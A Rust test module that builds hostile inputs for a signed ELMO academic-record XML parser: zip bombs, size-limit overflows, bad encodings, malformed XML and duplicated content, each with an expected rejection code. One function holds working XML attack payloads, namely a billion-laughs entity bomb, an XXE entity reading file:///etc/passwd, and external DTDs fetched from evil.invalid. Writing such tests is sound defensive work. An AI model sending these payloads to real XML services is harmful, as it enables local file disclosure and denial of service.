//! What is wrong with the document, whoever has signed it: its wrapping, size, encoding, definitions and contents.

use super::{ELMO, Hostile, after, before, between, row};
use crate::given::document;
use crate::signature::{RSA, signed_with};
use elmo::limits::{
    ATTRIBUTES_MAX, BYTES_MAX, DEPTH_MAX, LINE_MAX, NAMESPACES_MAX, NODES_MAX, RESULTS_MAX,
    TEXT_MAX,
};
use elmo::{pack, write};

pub(super) fn wrappings() -> Vec<Hostile> {
    let bomb = pack(&vec![b' '; BYTES_MAX + 1]);
    let nested = pack(pack(signed_with(RSA).as_bytes()).as_bytes());
    let cut = {
        let whole = pack(signed_with(RSA).as_bytes());
        whole[..whole.len() / 2].to_owned()
    };
    vec![
        row("a zip bomb", bomb, "unpacked-too-large"),
        row("packed twice", nested, "not-xml"),
        row("half of what was packed", cut, "not-packed"),
        row("a PDF", "%PDF-1.7", "not-packed"),
        row("nothing", "", "not-packed"),
    ]
}

pub(super) fn sizes() -> Vec<Hostile> {
    let attributes: String = (0..=ATTRIBUTES_MAX).map(|number| format!(" a{number}=''")).collect();
    let namespaces: String =
        (0..=NAMESPACES_MAX).map(|number| format!("<x xmlns:n{number}='urn:n'>")).collect();
    let with = |more: &str| after("<Signature ", &format!("{more}<Signature "));
    vec![
        row("a byte too many", with(&" ".repeat(BYTES_MAX)), "too-large"),
        row(
            "an element too deep",
            with(&("<x>".repeat(DEPTH_MAX) + &"</x>".repeat(DEPTH_MAX))),
            "too-deep",
        ),
        row("a stack that is never closed", "<x>".repeat(2_000_000), "too-deep"),
        row("an element too many", with(&"<x/>".repeat(NODES_MAX)), "too-many-elements"),
        row("a comment too many", with(&"<!---->".repeat(NODES_MAX)), "too-many-elements"),
        row("an attribute too many", with(&format!("<x{attributes}/>")), "too-many-attributes"),
        row(
            "a namespace too many",
            with(&(namespaces + &"</x>".repeat(NAMESPACES_MAX + 1))),
            "too-many-namespaces",
        ),
        row(
            "a text too long",
            before("Line</description>", &format!("{}</description>", "x".repeat(TEXT_MAX + 1))),
            "text-too-long",
        ),
    ]
}

/// Results that say as little as a result can.
fn results(count: usize) -> String {
    "<learningOpportunitySpecification><title>x</title><specifies><learningOpportunityInstance/></specifies>\
     </learningOpportunitySpecification>"
        .repeat(count)
}

pub(super) fn repeated() -> Vec<Hostile> {
    let name = ">Universitetet i Nord<";
    let long = format!(">{}<", "x".repeat(LINE_MAX + 1));
    let issued = "<issueDate>";
    let kind = format!("type=\"{}\">9186", "x".repeat(LINE_MAX + 1));
    let mut large = document();
    let issuer = &mut large.reports[0].issuer;
    issuer.identifiers[0].value = "9".repeat(LINE_MAX);
    let words = &mut issuer.title;
    for form in [&mut words.nb, &mut words.nn, &mut words.en, &mut words.other] {
        *form = Some("x".repeat(LINE_MAX));
    }
    let large = write(&large).expect("with few results it fits");
    let large = large.replacen(issued, &(results(RESULTS_MAX - 10) + issued), 1);
    assert!(pack(large.as_bytes()).len() < 10_000, "a small document");
    let key = elmo::SigningKey::from_pem(RSA).expect("a private key");
    let large = elmo::sign(&large, &key).expect("signed");
    vec![
        row("a name too long", before(name, &long), "line-too-long"),
        row(
            "the kind of an identifier too long",
            before("type=\"local\">9186", &kind),
            "line-too-long",
        ),
        row(
            "a result too many",
            before(issued, &(results(RESULTS_MAX) + issued)),
            "too-many-results",
        ),
        row("a small document that comes to a large list", large, "too-much-taken"),
    ]
}

pub(super) fn encodings() -> Vec<Hostile> {
    let latin = signed_with(RSA).replace("Synnøve", "Synn\u{1}ve").into_bytes();
    let latin: Vec<u8> =
        latin.into_iter().map(|byte| if byte == 1 { 0xf8 } else { byte }).collect();
    let wide: Vec<u8> = signed_with(RSA).encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        row("written in Latin-1", latin, "not-utf8"),
        row("written in Latin-1, by its own word", after("UTF-8", "ISO-8859-1"), "not-utf8"),
        row("written in UTF-7, by its own word", after("UTF-8", "UTF-7"), "not-utf8"),
        row("written in UTF-16", wide, "not-utf8"),
    ]
}

pub(super) fn definitions() -> Vec<Hostile> {
    let bomb: String = (1..9)
        .map(|level| format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10)))
        .collect();
    let with =
        |dtd: &str, word: &str| after("<elmo", &format!("{dtd}<elmo")).replacen("Kari", word, 1);
    let file = "<!DOCTYPE elmo [<!ENTITY who SYSTEM \"file:///etc/passwd\">]>";
    let outside =
        "<!DOCTYPE elmo [<!ENTITY % more SYSTEM \"https://evil.invalid/more.dtd\"> %more;]>";
    let default = "<!DOCTYPE elmo [<!ATTLIST elmo evil CDATA \"1\">]>";
    vec![
        row("a DTD", with("<!DOCTYPE elmo>", "Kari"), "dtd-forbidden"),
        row(
            "a DTD from elsewhere",
            with("<!DOCTYPE elmo SYSTEM \"https://evil.invalid/elmo.dtd\">", "Kari"),
            "dtd-forbidden",
        ),
        row("an entity that is a file", with(file, "&who;"), "dtd-forbidden"),
        row("entities from elsewhere", with(outside, "Kari"), "dtd-forbidden"),
        row(
            "entities of entities of entities",
            with(&format!("<!DOCTYPE elmo [<!ENTITY l0 \"lol\">{bomb}]>"), "&l8;"),
            "dtd-forbidden",
        ),
        row("an attribute that a DTD adds", with(default, "Kari"), "dtd-forbidden"),
        row("an entity that nobody defines", after("Kari", "&who;"), "not-xml"),
    ]
}

pub(super) fn no_xml() -> Vec<Hostile> {
    vec![
        row("a document that stops", after("</elmo>", ""), "not-xml"),
        row("elements that cross", after("</givenNames>", "</familyName>"), "not-xml"),
        row("two documents", after("</elmo>", "</elmo><elmo/>"), "not-xml"),
        row("a character that XML has not", after("Kari", "Ka&#1;ri"), "not-xml"),
        row("an attribute twice", after("<learner>", "<learner a='1' a='2'>"), "not-xml"),
        row("a namespace that is not declared", after("<learner>", "<x:learner>"), "not-xml"),
    ]
}

pub(super) fn roots() -> Vec<Hostile> {
    vec![
        row("an ELMO of another version", before("tree/v1", "tree/v3"), "not-elmo"),
        row("an ELMO of no namespace", before(&format!(" xmlns=\"{ELMO}\""), ""), "not-elmo"),
    ]
}

pub(super) fn contents() -> Vec<Hostile> {
    let twice = |name: &str| {
        let written = write(&document()).expect("a document that can be written");
        let part = between(&written, &format!("<{name}>"), &format!("</{name}>")).to_owned();
        before(&part, &part.repeat(2))
    };
    vec![
        row("two learners", twice("learner"), "twice"),
        row("two grades of one result", twice("resultLabel"), "twice"),
        row(
            "two results of one identifier that differ",
            before("result-EXPHIL", "result-HIS1000"),
            "same-id-other-content",
        ),
        row("no time", before("2026-11-23T10:00:00Z", "today"), "missing"),
        row("no issuer", before("<identifier type=\"local\">9186</identifier>", ""), "missing"),
    ]
}
